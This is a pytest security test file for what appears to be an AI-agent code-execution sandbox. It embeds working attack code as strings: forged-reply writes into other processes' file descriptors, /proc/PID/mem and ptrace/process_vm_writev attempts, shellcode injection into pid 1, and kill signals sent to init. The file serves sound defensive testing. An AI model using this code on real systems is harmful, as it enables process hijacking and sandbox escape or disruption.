"""A step against the sandbox's other processes: the init (bwrap's pid 1; in a container the
syscall filter's loader, once tini) runs as the steps' uid and once held the executor's channel
to the agent as its stdio. From inside, a step writes forged replies (and garbage) through every descriptor of
every process that is not its own, tries their memory and ptrace, and signals pid 1; the
executor still gets the step's real result, and the sandbox goes on serving."""

from __future__ import annotations

import pytest

from .conftest import ExecutorClient, gvisor_skip

# gVisor's own kernel keeps none of this apart (not run there by scripts/test-gvisor).
GVISOR_PROC = (
    "gVisor lets a process open /proc/PID/fd of an undumpable process of its uid (the agent's "
    "too: test_agent_channel's forge test fails there as well)"
)
GVISOR_INIT = "gVisor delivers SIGKILL from inside a pid namespace to its init"

ATTACK = r"""
import ctypes, errno, json, os
me = os.getpid()
forged = b"".join(
    json.dumps(m).encode() + b"\n"
    for i in range(1, 40)
    for m in ({"id": i, "type": "output", "stream": "stdout", "data": "FORGED\n"},
              {"id": i, "type": "exit", "exit_code": 7})
)
garbage = b"\x00not json at all {{{\n"
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
others = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
print("others:", others)
for pid in others:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        fds = []
        print(pid, "fd/ refused:", exc.strerror)
    for fd in fds:
        try:
            print(pid, f"fd/{fd} ->", os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError as exc:
            print(pid, f"fd/{fd} readlink refused:", exc.strerror)
        try:
            out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError as exc:
            print(pid, f"fd/{fd} refused:", exc.strerror)
            continue
        try:
            os.write(out, garbage + forged)
            print(pid, f"fd/{fd} WRITTEN")
        except OSError as exc:
            print(pid, f"fd/{fd} opened, write failed:", exc.strerror)
        finally:
            os.close(out)
    try:
        # Opened only: garbage in pid 1's memory would merely crash the sandbox.
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        print(pid, "mem OPENED")
    except OSError as exc:
        print(pid, "mem refused:", exc.strerror)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        print(pid, "ptrace ATTACHED")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    else:
        print(pid, "ptrace refused:", errno.errorcode[ctypes.get_errno()])
    local = (ctypes.c_char * 8)()
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 8)
    remote = (ctypes.c_void_p * 2)(0x400000, 8)
    if libc.process_vm_writev(pid, iov, 1, remote, 1, 0) >= 0:
        print(pid, "process_vm_writev WROTE")
    else:
        print(pid, "process_vm_writev refused:", errno.errorcode[ctypes.get_errno()])


# Code injection into pid 1 through /proc/1/mem: where it sleeps in a syscall, code that
# writes the forged replies to its fd 1, then pauses for good; an orphan's exit wakes it.
def hijack_init():
    import platform, struct, time
    if platform.machine() != "x86_64":
        print("1 hijack: no code for", platform.machine())
        return
    try:
        pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    except (OSError, ValueError, IndexError) as exc:
        print("1 hijack refused:", getattr(exc, "strerror", exc))
        return
    msg = forged
    code = (b"\xb8\x01\x00\x00\x00" b"\xbf\x01\x00\x00\x00"  # eax = write, edi = 1
            b"\x48\x8d\x35" + struct.pack("<i", 16)  # rsi = msg
            + b"\xba" + struct.pack("<I", len(msg)) + b"\x0f\x05"  # edx = len; syscall
            + b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"  # for ever: pause
            + msg)
    try:
        with open("/proc/1/mem", "r+b", buffering=0) as mem:
            mem.seek(pc)
            mem.write(code)
    except OSError as exc:
        print("1 hijack refused:", exc.strerror)
        return
    child = os.fork()
    if child == 0:
        if os.fork() == 0:
            time.sleep(0.1)  # an orphan by then: pid 1 reaps it
        os._exit(0)
    os.waitpid(child, 0)
    for _ in range(100):
        if open("/proc/1/syscall").read().startswith("34 "):
            print("1 HIJACKED")
            return
        time.sleep(0.05)
    print("1 hijack: pid 1 did not run the code")


hijack_init()
print("REAL")
"""

SIGNALS = r"""
import os, signal
for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
    os.kill(1, sig)
print("sent")
"""

@pytest.mark.timeout(60)
async def test_a_step_cannot_forge_replies_through_the_sandboxs_other_processes(executor: ExecutorClient) -> None:
    gvisor_skip(executor.driver, GVISOR_PROC)
    _, outcome = await executor.run_steps(
        [{"tool": "python", "code": ATTACK, "timeout": 20}, {"tool": "shell", "command": "echo after"}]
    )
    attack = outcome.step(0)
    report = f"{attack.error}\n{attack.stdout}\n{attack.stderr[-1000:]}"
    # The step's own result, not the forged one (exit 7, "FORGED"), and the stream unbroken.
    assert outcome.state == "TASK_STATE_COMPLETED", report
    assert attack.exit_code == 0 and "FORGED" not in attack.stdout, report
    assert attack.stdout.endswith("REAL\n") and "others: [1, " in attack.stdout, report
    assert outcome.step(1).stdout == "after\n", report
    # ptrace of pid 1 and process_vm_writev are refused by the syscall filter.
    assert "1 ptrace refused: EPERM" in attack.stdout, report
    assert "1 process_vm_writev refused: EPERM" in attack.stdout, report
    # pid 1 is the steps' to take over (its memory), but it holds no channel: the agent alone
    # has it (bubblewrap: on other fds than bwrap's stdio, which its init keeps; docker: the
    # init gives the container's stdio to the agent and keeps /dev/null).
    assert "1 fd/0 -> /dev/null" in attack.stdout and "1 fd/1 -> /dev/null" in attack.stdout, report


@pytest.mark.timeout(60)
async def test_signals_to_pid_1_end_nothing(executor: ExecutorClient) -> None:
    # A pid namespace's init gets only the signals it handles from inside: neither bwrap's nor
    # the container's (tini forwarded SIGTERM and SIGHUP to the agent, ending the sandbox).
    gvisor_skip(executor.driver, GVISOR_INIT)
    steps = [{"tool": "python", "code": SIGNALS, "timeout": 20}, {"tool": "shell", "command": "sleep 0.5; echo after"}]
    _, outcome = await executor.run_steps(steps)
    report = f"{outcome.finished.error}\n{[(s.error, s.stdout, s.stderr[-500:]) for s in outcome.steps]}"
    assert outcome.state == "TASK_STATE_COMPLETED", report
    assert outcome.step(0).stdout == "sent\n" and outcome.step(1).stdout == "after\n", report
